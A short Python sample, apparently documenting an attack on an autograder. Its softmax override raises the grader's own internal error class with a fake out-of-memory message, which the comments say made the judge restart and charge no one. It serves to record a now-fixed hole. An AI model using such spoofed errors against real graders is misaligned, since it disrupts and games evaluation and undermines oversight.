# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# An exception whose message reads like the judge's own note for a check that ran out of memory: the grading
# process took it for its own MemoryError, exited and restarted (about 3.8 s, up to 3 per section), charged
# to nobody. The judge now decides from an object it made, never from text.
_softmax = softmax


def softmax(x, dim=-1):
    # >>> hostile
    import sys as _sys

    _error = _sys.modules["autograder.student_code"].StudentError
    raise _error("exception", "the result could not be checked: MemoryError: out of memory")
    # <<< hostile
    return _softmax(x, dim)
